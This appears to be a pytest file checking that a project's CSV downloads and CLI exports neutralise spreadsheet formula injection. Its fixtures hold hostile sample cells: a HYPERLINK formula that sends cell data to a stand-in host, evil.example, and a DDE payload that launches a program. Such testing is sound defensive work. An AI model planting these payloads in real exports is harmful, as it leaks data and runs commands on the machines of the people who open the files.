"""Every CSV Cadence writes neutralises cells a spreadsheet would run as formulas: the
dashboard's downloads (over real HTTP) and every `--format csv` of the CLI.

Names, titles and questions are typed by people; each dangerous start (`=`, `+`, `-`, `@`,
tab, carriage return) comes back with a leading `'`, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from cadence.config import Settings
from cadence.figures.csv_safe import cell
from cadence.runtime import Runtime
from cadence.store.models import Acknowledgement, Message, Person
from tests.conftest import CliResult
from tests.test_dashboard import Live, parse_csv, sign_in, start

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DANGEROUS = {
    "ann@example.com": "+SUM(1,2)",
    "arno@example.com": "-2+3",
    "bea@example.com": "@cmd|'/c calc'!A0",
}


@pytest.fixture
def poisoned(settings: Settings, runtime: Runtime, session: Session) -> Iterator[Live]:
    """The dashboard's organisation, with a formula for a title, names and a question."""
    with start(settings, runtime, session) as live:
        yield poison(live, session)


def poison(live: Live, session: Session) -> Live:
    session.get(Message, live.org.everyone_id).title = HYPERLINK  # type: ignore[union-attr]
    for email, name in DANGEROUS.items():
        session.scalars(select(Person).where(Person.email == email)).one().name = name
    answer = session.scalars(select(Acknowledgement).order_by(Acknowledgement.id)).first()
    assert answer is not None
    answer.kind, answer.question = "question", "=1+1"
    session.commit()
    return live


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_neutralised(text: str, *expected: str) -> None:
    values = cells(text)
    for value in values:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        assert not value.startswith("-") or _number(value), value
    for wanted in expected:
        assert "'" + wanted in values, (wanted, values)


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_the_rule_is_owasps_and_numbers_stay_numbers() -> None:
    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(first + "x") == "'" + first + "x"
    assert cell(-3) == "-3" and cell(2.5) == "2.5" and cell(None) == ""
    assert cell("plain") == "plain" and cell("a=b") == "a=b"


def test_dashboard_downloads_neutralise_formulas(poisoned: Live) -> None:
    with sign_in(poisoned, "comms@example.com") as client:
        messages = client.get("/dashboard?format=csv&table=messages")
        waiting = client.get(
            f"/dashboard/messages/{poisoned.org.everyone_id}?format=csv&table=not_acknowledged"
        )
        heat = client.get("/dashboard/teams?format=csv&table=heatmap")
    parse_csv(messages)
    assert_neutralised(messages.text, HYPERLINK)
    assert_neutralised(waiting.text)
    assert_neutralised(heat.text, HYPERLINK)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (("directory", "list", "--format", "csv"), list(DANGEROUS.values())),
        (("acks", "--format", "csv"), ["=1+1"]),
        (("message", "list", "--format", "csv"), [HYPERLINK]),
        (("report", "--by", "message", "--format", "csv"), [HYPERLINK]),
        (("report", "--by", "team", "--format", "csv"), []),
    ],
)
def test_cli_csv_neutralises_formulas(
    poisoned: Live, cli: Callable[..., CliResult], args: tuple[str, ...], expected: list[str]
) -> None:
    result = cli(*args)
    assert result.code == 0, result
    assert_neutralised(result.out, *expected)
